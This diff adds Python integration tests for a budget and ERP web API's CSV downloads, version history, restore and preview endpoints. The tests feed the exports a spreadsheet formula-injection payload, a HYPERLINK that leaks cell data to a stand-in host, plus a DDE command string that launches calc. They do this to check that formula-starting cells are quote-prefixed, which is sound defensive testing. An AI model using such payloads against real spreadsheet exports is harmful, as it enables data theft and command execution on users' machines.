@@ -1,0 +1,275 @@
+"""History, restore, preview requests and CSV downloads over HTTP (Chalice's test client), on the
+in-memory stores and on the DynamoDB stores (moto)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from decimal import Decimal
+from typing import Any
+
+import pytest
+from chalice.test import Client
+from moto import mock_aws
+
+from app import app
+from chalicelib import wiring
+from chalicelib.domain.model import (
+    ChangeKind,
+    ChangeRecord,
+    Job,
+    JobKind,
+    LineItem,
+    Summary,
+    utc_now,
+)
+from tests.integration.api_support import World, budget_user, build_world, erp_user
+
+pytestmark = pytest.mark.integration
+
+P = "/api/v1/companies/demo/projects/p-1001"
+ERP = "/api/v1/companies/demo/erp"
+HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'
+
+
+@pytest.fixture(params=["memory", "dynamodb"])
+def world(request: pytest.FixtureRequest) -> Iterator[World]:
+    with pytest.MonkeyPatch.context() as env, mock_aws():
+        env.setenv("AWS_DEFAULT_REGION", "us-east-1")
+        yield build_world(request.param)
+
+
+@pytest.fixture
+def client(world: World) -> Iterator[Client]:
+    wiring.use_ports(world.ports)
+    with Client(app) as test_client:
+        yield test_client
+    wiring.use_ports(None)
+
+
+def get(client: Client, world: World, path: str, who: str = budget_user("read_only")) -> Any:
+    answer = client.http.get(path, headers=world.headers(who))
+    assert answer.status_code == 200, answer.body
+    return json.loads(answer.body)
+
+
+def patch(client: Client, world: World, line_id: str, body: dict[str, Any]) -> None:
+    answer = client.http.patch(
+        f"{P}/budget/line_items/{line_id}",
+        headers=world.headers(budget_user("standard")),
+        body=json.dumps(body),
+    )
+    assert answer.status_code == 200, answer.body
+
+
+def rows_of(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def as_csv_cells(item: dict[str, Any]) -> dict[str, str]:
+    return {name: "" if value is None else str(value) for name, value in item.items()}
+
+
+# --- CSV -------------------------------------------------------------------------------------
+
+
+def test_the_budget_csv_parses_back_to_the_api_answer_with_formulas_guarded(
+    client: Client, world: World
+) -> None:
+    line_id = world.ids["line_item_id"]
+    patch(client, world, line_id, {"description": HYPERLINK})
+    budget = get(client, world, f"{P}/budget")
+
+    answer = client.http.get(f"{P}/budget.csv", headers=world.headers(budget_user("read_only")))
+
+    assert answer.status_code == 200
+    assert answer.headers["Content-Type"].startswith("text/csv")
+    assert "attachment" in answer.headers["Content-Disposition"]
+    text = answer.body.decode() if isinstance(answer.body, bytes) else answer.body
+    assert text.splitlines()[0] == (
+        "line_item_id,sub_job,cost_code,cost_type,description,original_budget_amount,uom,"
+        "quantity,unit_cost"
+    )
+    assert "\r\n" in text  # RFC 4180 line ends
+    rows = rows_of(text)
+    guarded = next(row for row in rows if row["line_item_id"] == line_id)
+    assert guarded["description"] == "'" + HYPERLINK
+    guarded["description"] = HYPERLINK
+    assert rows == [as_csv_cells(item) for item in budget["line_items"]]
+
+
+def test_the_guard_prefixes_formula_starts_and_leaves_plain_decimals(
+    client: Client, world: World
+) -> None:
+    line_id = world.ids["line_item_id"]
+    for text in ("+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tTab", "\rReturn"):
+        patch(client, world, line_id, {"description": text, "original_budget_amount": "-12.50"})
+        answer = client.http.get(f"{P}/budget.csv", headers=world.headers(budget_user("admin")))
+        row = next(r for r in rows_of(answer.body.decode()) if r["line_item_id"] == line_id)
+        assert row["description"] == "'" + text
+        assert row["original_budget_amount"] == "-12.50"
+
+
+def _job_with_changes(world: World) -> str:
+    """A finished re-import of b-1001 whose changes are recorded, through the stores."""
+    budget = world.budgets.get("demo", "b-1001")
+    lines = world.budgets.read_lines(budget)
+    job = Job(
+        job_id="job-csv",
+        company_id="demo",
+        budget_id="b-1001",
+        kind=JobKind.REIMPORT,
+        requested_by=erp_user("standard"),
+        requested_at=utc_now(),
+    )
+    world.jobs.enqueue(job, budget, None)
+    running = world.jobs.start(job, utc_now())
+    new = [
+        LineItem(x.key, HYPERLINK, x.original_budget_amount + Decimal("1.01"), x.uom) for x in lines
+    ]
+    changes = [
+        ChangeRecord(x.line_item_id, x.key, ChangeKind.UPDATED, x.original_budget_amount,
+                     n.original_budget_amount)
+        for x, n in zip(lines, new, strict=True)
+    ]  # fmt: skip
+    world.budgets.commit(
+        world.budgets.get("demo", "b-1001"), new, sum(n.original_budget_amount for n in new),
+        running, Summary(lines_updated=len(new)), changes, "Successfully Re-imported to Budget Bridge",
+        utc_now(),
+    )  # fmt: skip
+    return job.job_id
+
+
+def test_a_job_s_changes_csv_parses_back_to_its_changes(client: Client, world: World) -> None:
+    job_id = _job_with_changes(world)
+    listed = get(client, world, f"{ERP}/jobs/{job_id}/changes?limit=1000", erp_user("read_only"))
+
+    answer = client.http.get(
+        f"{ERP}/jobs/{job_id}/changes.csv", headers=world.headers(erp_user("read_only"))
+    )
+
+    assert answer.status_code == 200
+    rows = rows_of(answer.body.decode())
+    assert list(rows[0]) == [
+        "line_item_id", "sub_job", "cost_code", "cost_type", "kind", "old_amount", "new_amount",
+    ]  # fmt: skip
+    assert rows == [as_csv_cells(change) for change in listed["changes"]]
+
+
+# --- history ---------------------------------------------------------------------------------
+
+
+def test_history_lists_each_edit_with_its_person_and_the_version_reads_as_get_did_then(
+    client: Client, world: World
+) -> None:
+    line_id = world.ids["line_item_id"]
+    then = get(client, world, f"{P}/budget")
+    patch(client, world, line_id, {"original_budget_amount": "99.99"})
+    patch(client, world, line_id, {"uom": "EA"})
+
+    listed = get(client, world, f"{P}/budget/history")
+    as_of = get(client, world, f"{P}/budget/history/{then['version']}")
+    edited = get(client, world, f"{P}/budget/history/{then['version'] + 1}")
+
+    assert [(v["version"], v["source"], v["by"]) for v in listed["versions"]] == [
+        (then["version"] + 2, "edit", budget_user("standard")),
+        (then["version"] + 1, "edit", budget_user("standard")),
+        (then["version"], "import", "seed"),
+    ]
+    assert listed["versions"][1]["total"] == edited["total"]
+    assert {k: as_of[k] for k in then} == then
+    assert edited["changes"] == [
+        {
+            "line_item_id": line_id,
+            "sub_job": "01",
+            "cost_code": "03-300",
+            "cost_type": "M",
+            "kind": "updated",
+            "old_amount": "1250.00",
+            "new_amount": "99.99",
+        }
+    ]
+    for missing in ("999", "abc", "-1"):
+        answer = client.http.get(
+            f"{P}/budget/history/{missing}", headers=world.headers(budget_user("admin"))
+        )
+        assert answer.status_code == 404
+
+
+def test_restore_answers_202_with_a_restore_job_and_409_when_locked(
+    client: Client, world: World
+) -> None:
+    headers = world.headers(budget_user("admin"))
+    answer = client.http.post(f"{P}/budget/history/0/restore", headers=headers)
+    assert answer.status_code == 202, answer.body
+    job = json.loads(answer.body)
+    assert (job["kind"], job["status"], job["restore_version"]) == ("restore", "queued", 0)
+    assert answer.headers["Location"].endswith(f"/erp/jobs/{job['job_id']}")
+    busy = client.http.post(f"{P}/budget/history/0/restore", headers=headers)
+    assert busy.status_code == 409
+    assert json.loads(busy.body)["error"]["code"] == "job_in_progress"
+
+    locked = client.http.post(
+        "/api/v1/companies/demo/projects/p-1002/budget/history/0/restore", headers=headers
+    )
+    assert locked.status_code == 409
+    assert json.loads(locked.body)["error"]["code"] == "budget_locked"
+
+
+# --- preview requests ------------------------------------------------------------------------
+
+
+def test_preview_answers_202_holds_nothing_and_bad_preview_ids_are_refused(
+    client: Client, world: World
+) -> None:
+    headers = world.headers(erp_user("standard"))
+    answer = client.http.post(f"{ERP}/budgets/b-1001/preview", headers=headers)
+    assert answer.status_code == 202, answer.body
+    assert json.loads(answer.body)["kind"] == "preview"
+    assert world.budgets.get("demo", "b-1001").active_job_id is None
+
+    for body, status in (
+        ({"preview_job_id": "no-such-job"}, 404),
+        ({"preview_job_id": 5}, 422),
+        ({"preview": "x"}, 422),
+        ({"preview_job_id": json.loads(answer.body)["job_id"]}, 400),  # not finished yet
+    ):
+        refused = client.http.post(
+            f"{ERP}/budgets/b-1001/reimport", headers=headers, body=json.dumps(body)
+        )
+        assert refused.status_code == status, (body, refused.body)
+        assert set(json.loads(refused.body)["error"]) >= {"code", "message"}
+
+
+def test_preview_takes_the_same_optional_body_as_import_and_reimport(
+    client: Client, world: World
+) -> None:
+    headers = world.headers(erp_user("standard"))
+    url = f"{ERP}/budgets/b-1001/preview"
+
+    allowed = client.http.post(url, headers=headers, body=json.dumps({"allow_empty": True}))
+    assert allowed.status_code == 202, allowed.body
+    assert world.jobs.get("demo", json.loads(allowed.body)["job_id"]).allow_empty
+    plain = client.http.post(url, headers=headers, body=json.dumps({}))
+    assert plain.status_code == 202, plain.body
+    assert not world.jobs.get("demo", json.loads(plain.body)["job_id"]).allow_empty
+
+    nested = json.dumps({"preview_job_id": json.loads(plain.body)["job_id"]})
+    refused = client.http.post(url, headers=headers, body=nested)
+    assert refused.status_code == 400, refused.body
+    assert "preview_job_id" in json.loads(refused.body)["error"]["message"]
+
+
+def test_the_budgets_list_carries_the_erp_total_as_last_fetched(
+    client: Client, world: World
+) -> None:
+    budget = world.budgets.get("demo", "b-1001")
+    world.budgets.record_erp_total(budget, Decimal("4321.09"), utc_now())
+
+    rows = get(client, world, f"{ERP}/budgets", erp_user("read_only"))["budgets"]
+
+    row = next(r for r in rows if r["budget_id"] == "b-1001")
+    assert row["current_erp_total"] == "4321.09" and row["erp_total_as_of"].endswith("Z")
+    assert next(r for r in rows if r["budget_id"] == "b-1004")["current_erp_total"] is None
